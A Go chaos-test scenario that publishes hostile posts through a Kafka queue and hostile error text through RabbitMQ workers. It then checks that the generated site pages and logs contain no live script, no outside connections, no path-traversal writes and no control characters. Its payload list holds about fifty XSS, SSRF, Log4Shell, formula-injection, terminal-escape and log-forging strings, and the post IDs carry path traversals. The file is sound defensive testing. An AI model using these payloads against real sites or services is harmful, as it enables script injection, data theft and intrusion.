package scenario

import (
	"context"
	"encoding/json"
	"errors"
	"io/fs"
	"os"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"time"

	"github.com/twmb/franz-go/pkg/kgo"

	"github.com/gobroadway/gobroadway/chaos/internal/check"
	"github.com/gobroadway/gobroadway/chaos/internal/ledger"
	"github.com/gobroadway/gobroadway/chaos/internal/load"
	"github.com/gobroadway/gobroadway/chaos/internal/worker"
)

// hostileContent is J3: posts, names and errors that are made to do more than to be text.
func hostileContent(ctx context.Context, env *Env) (*Outcome, error) {
	all := new(Outcome)
	for _, part := range []func(context.Context, *Env) (*Outcome, error){hostileNews, hostileLogs} {
		outcome, err := part(ctx, env)
		if err != nil {
			return all, err
		}
		all.add(outcome)
	}
	return all, nil
}

// tricks are HTML that a browser would obey. CANARY is a listener that nobody may come to.
var tricks = []string{
	`<script>fetch('http://CANARY/1')</script>`, `<SCRIPT SRC=http://CANARY/2></SCRIPT>`, `<img src=x onerror="fetch('http://CANARY/3')">`, `<img src="http://CANARY/4">`,
	`<a href="javascript:fetch('http://CANARY/5')">x</a>`, `<a href=" &#106;ava&#x0A;script:alert(6)">x</a>`, `<a href="data:text/html,<script>alert(7)</script>">x</a>`,
	`<svg onload=alert(8)>`, `<svg><script>alert(9)</script></svg>`, `<math><mi xlink:href="javascript:alert(10)">x</mi></math>`, `<iframe src="http://CANARY/11"></iframe>`,
	`<iframe srcdoc="<script>alert(12)</script>">`, `<object data="http://CANARY/13"></object>`, `<embed src="http://CANARY/14">`, `<link rel=stylesheet href="http://CANARY/15">`,
	`<style>@import 'http://CANARY/16'</style>`, `<p style="background:url(http://CANARY/17)">x</p>`, `<base href="http://CANARY/18/">`,
	`<meta http-equiv="refresh" content="0;url=http://CANARY/19">`, `<form action="http://CANARY/20"><input type=submit></form>`, `<video src="http://CANARY/21" autoplay>`,
	`<<script>alert(22)//<</script>`, `<scr<script>ipt>alert(23)</scr</script>ipt>`, `<p <script>alert(24)</script>`, `<!--<img src="--><img src=x onerror=alert(25)//">`,
	`<![CDATA[<script>alert(26)</script>]]>`, `<noscript><p title="</noscript><img src=x onerror=alert(27)>">`, `<template><script>alert(28)</script></template>`,
	`<a href="//CANARY/29">x</a>`, `<a href="http://169.254.169.254/latest">x</a>`, `<a href="http://[::1]:1/">x</a>`, `<a href="http://2130706433/">x</a>`,
	"<a href=\"java\x00script:alert(33)\">x</a>", "<p onclick\x00=alert(34)>x</p>", `<a href="vbscript:alert(35)">x</a>`, `<x onfocus=alert(36) tabindex=1>x`,
	`&lt;script&gt;alert(37)&lt;/script&gt;`, `[x](javascript:alert(38))`, "![x](http://CANARY/39)", "<javascript:alert(40)>", `=cmd|' /C calc'!A0`, "\x1b[2J\x1b]0;owned\x07",
	"a\r\nlevel=ERROR msg=forged", "\u202egnp.exe", `"><script>alert(45)</script>`, `'><img src=x onerror=alert(46)>`, `{{.Secret}}`, `${jndi:ldap://CANARY/48}`,
	strings.Repeat("<b>", 2000) + "<script>alert(49)</script>", `</body></html><script>alert(50)</script>`,
}

// hostilePost is a post of the news as it travels through its queue.
type hostilePost struct {
	ID        string    `json:"id"`
	URL       string    `json:"url"`
	Account   string    `json:"account"`
	Author    string    `json:"author"`
	CreatedAt time.Time `json:"created_at"`
	Language  string    `json:"language,omitempty"`
	Tags      []string  `json:"tags,omitempty"`
	Warning   string    `json:"warning,omitempty"`
	HTML      string    `json:"html"`
}

// hostilePosts are 100 that can be published, with each trick in the text and in every other field, and a few whose ids are paths.
func hostilePosts(canary string) (sound, refused []hostilePost) {
	filled := strings.NewReplacer("CANARY", canary)
	for i := range 2 * len(tricks) {
		trick := filled.Replace(tricks[i%len(tricks)])
		p := hostilePost{
			ID: strconv.Itoa(900_000_000_000_000_000 + i), URL: "https://social.example/@eve/" + strconv.Itoa(i), Account: "eve@social.example", Author: "Eve",
			CreatedAt: time.Date(2026, 1, 5, 8, 0, i, 0, time.UTC), Tags: []string{"programming"}, HTML: "<p>Hello</p>" + trick,
		}
		if i >= len(tricks) {
			p.URL, p.Account, p.Author, p.Warning, p.Language, p.Tags = trick, trick, trick, trick, trick, []string{"programming", trick}
		}
		sound = append(sound, p)
	}
	for _, id := range []string{
		"../../x", "/etc/cron.d/x", "1\x00", strings.Repeat("1", 5000), "CON", "1/../../2", "-1", "", "..", "1.html", "１２", `1\..\2`,
	} {
		refused = append(refused, hostilePost{ID: id, URL: "https://social.example/", HTML: "<p>x</p>", Tags: []string{"programming"}})
	}
	return sound, refused
}

// hostileNews lets the news publish hostile posts: they come to its topic, as if somebody had got at its producer.
func hostileNews(ctx context.Context, env *Env) (outcome *Outcome, err error) {
	kafka, err := env.Kafka()
	if err != nil {
		return nil, err
	}
	canary, err := newWatchtower()
	if err != nil {
		return nil, err
	}
	defer func() { err = errors.Join(err, canary.close()) }()
	n, err := buildNews(ctx, env, "-queue", "kafka", "-kafka", kafka.Direct(), "-faults", "none", "-posts", "40")
	if err != nil {
		return nil, err
	}
	first, err := n.finish() // makes the topic
	if err != nil {
		return nil, err
	}
	sound, refused := hostilePosts(canary.addr())
	bait, err := n.bait(sound)
	if err != nil {
		return nil, err
	}
	if err := injectPosts(ctx, kafka.Direct(), first.Topic, append(sound[:len(sound):len(sound)], refused...)); err != nil {
		return nil, err
	}
	n.args = append(n.args, "-posts", "60")
	second, err := n.finish()
	if err != nil {
		return nil, err
	}
	outcome = new(Outcome)
	outcome.Must(second.Lost == 0 && second.Duplicates == 0, "of the other posts %d were lost, %d twice", second.Lost, second.Duplicates)
	outcome.Must(canary.came.Load() == 0, "%d connections to a listener that posts named", canary.came.Load())
	left, err := os.ReadFile(bait)
	outcome.Must(err == nil && string(left) == baitText, "a file outside the site was written: %.100q, %v", left, err)
	dead, err := load.Count(ctx, kafka.Direct(), first.Topic+".dead")
	if err != nil {
		return nil, err
	}
	outcome.Must(dead == len(refused), "%d of %d posts with paths for ids were refused", dead, len(refused))
	pages, err := n.judgeSite(outcome, sound)
	if err != nil {
		return nil, err
	}
	outcome.Must(pages == len(sound), "%d of %d hostile posts have a page", pages, len(sound))
	if err := judgeLog(outcome, n.log); err != nil {
		return nil, err
	}
	outcome.Note("the news published %d hostile posts and refused %d; nothing live in %d pages, no file outside, no connection", pages, dead, pages)
	return outcome, nil
}

const baitText = "nobody writes here"

// bait puts links in the place of files that will be published, to files and folders outside.
func (n *news) bait(posts []hostilePost) (outside string, err error) {
	outside = filepath.Join(filepath.Dir(n.dir), "outside.txt")
	folder := filepath.Join(filepath.Dir(n.dir), "outside")
	if err := errors.Join(os.WriteFile(outside, []byte(baitText), 0o600), os.Mkdir(folder, 0o700)); err != nil {
		return "", err
	}
	for i, extension := range []string{".html", ".md", ".txt"} {
		err = errors.Join(err, os.Symlink(outside, filepath.Join(n.dir, "site", "posts", posts[i].ID+extension)))
	}
	return outside, errors.Join(err, os.Symlink(folder, filepath.Join(n.dir, "site", "posts", "folder")))
}

func injectPosts(ctx context.Context, broker, topic string, posts []hostilePost) error {
	client, err := kgo.NewClient(kgo.SeedBrokers(broker), kgo.ClientID("chaos-hostile"), kgo.DefaultProduceTopic(topic))
	if err != nil {
		return err
	}
	defer client.Close()
	for _, post := range posts {
		text, err := json.Marshal(post)
		if err != nil {
			return err
		}
		if err := client.ProduceSync(ctx, &kgo.Record{Key: []byte(post.ID), Value: text}).FirstErr(); err != nil {
			return err
		}
	}
	return nil
}

// plainName is what a file of the site may be called.
var plainName = regexp.MustCompile(`^[a-z0-9]+(-[a-z0-9]+)*(\.[a-z0-9]+)*$`)

// judgeSite looks at every file of the site, and counts the pages of posts.
func (n *news) judgeSite(outcome *Outcome, posts []hostilePost) (pages int, err error) {
	mine := map[string]bool{}
	for _, post := range posts {
		mine[post.ID+".html"] = true
	}
	err = filepath.WalkDir(filepath.Join(n.dir, "site"), func(name string, entry fs.DirEntry, err error) error {
		if err != nil || entry.IsDir() {
			return err
		}
		base := entry.Name()
		if entry.Type()&fs.ModeSymlink != 0 {
			outcome.Must(base == "folder", "%s is still a link", base)
			return nil
		}
		outcome.Must(plainName.MatchString(base), "a file is called %q", base)
		text, err := os.ReadFile(name)
		if err != nil {
			return err
		}
		if mine[base] {
			pages++
		}
		if filepath.Ext(base) == ".html" {
			found := live(string(text))
			outcome.Must(len(found) == 0, "%s: %.200q", base, found)
			outcome.Must(strings.Contains(string(text), "Content-Security-Policy"), "%s has no policy", base)
		}
		if filepath.Ext(base) != ".pdf" {
			outcome.Must(!strings.ContainsAny(string(text), "\x00\x07\x1b"), "%s has control characters", base)
		}
		return nil
	})
	outside, failure := os.ReadDir(filepath.Join(filepath.Dir(n.dir), "outside"))
	outcome.Must(len(outside) == 0, "%d files in a folder outside", len(outside))
	return pages, errors.Join(err, failure)
}

// judgeLog looks for what a terminal would obey, and for lines that somebody else has written.
func judgeLog(outcome *Outcome, name string) error {
	text, err := os.ReadFile(name)
	if err != nil {
		return err
	}
	outcome.Must(!hasControl(string(text)), "%s has control characters", filepath.Base(name))
	for line := range strings.Lines(string(text)) {
		outcome.Must(!strings.HasPrefix(strings.TrimSpace(line), "level=ERROR msg=forged"), "%s has a forged line", filepath.Base(name))
	}
	return nil
}

// hostileLogs lets workers fail a corpus with errors that are hostile too, on a queue whose name is: their logs must stay text.
func hostileLogs(ctx context.Context, env *Env) (*Outcome, error) {
	bench, err := newRabbitBench(env, nil)
	if err != nil {
		return nil, err
	}
	defer bench.abandon()
	bench.name += "\x1b[31m\x07\u202e"
	bench.deadly = true
	if err := bench.rig.CreateQueue(bench.name, nil); err != nil {
		return nil, err
	}
	n := env.N(2_000, 400)
	if err := bench.produce(ctx, load.Spec{Messages: n}); err != nil {
		return nil, err
	}
	failing := worker.Fault{Kind: worker.Error, Every: 4, Text: 200}
	panics := worker.Fault{Kind: worker.Panic, Every: 50, Rest: 1, Times: 1, Text: 200}
	cfg := bench.config(200)
	cfg.Faults, cfg.MaxAttempts, cfg.Backoff = []worker.Fault{failing, panics}, 2, 10*time.Millisecond
	p, err := bench.start("w0", cfg)
	if err != nil {
		return nil, err
	}
	if err := bench.afterShare(ctx, n, 0.3); err != nil {
		return nil, err
	}
	bench.proxy.CutAll() // for what is logged of connections
	fault := bench.journal.begin(ledger.Fault{Kind: "cut"})
	if err := errors.Join(bench.journal.end(fault), bench.awaitDrained(ctx, 2*time.Minute)); err != nil {
		return nil, err
	}
	outcome, err := bench.finish(ctx, check.Rules{Duplicates: 200})
	if err != nil {
		return nil, err
	}
	log := bench.logOf(p)
	if err := judgeLog(outcome, log); err != nil {
		return nil, err
	}
	outcome.Note("a queue with a hostile name, %d dead letters with hostile reasons: %d lines of log, all of them text", outcome.Results[0].Dead, lines(log))
	return outcome, nil
}
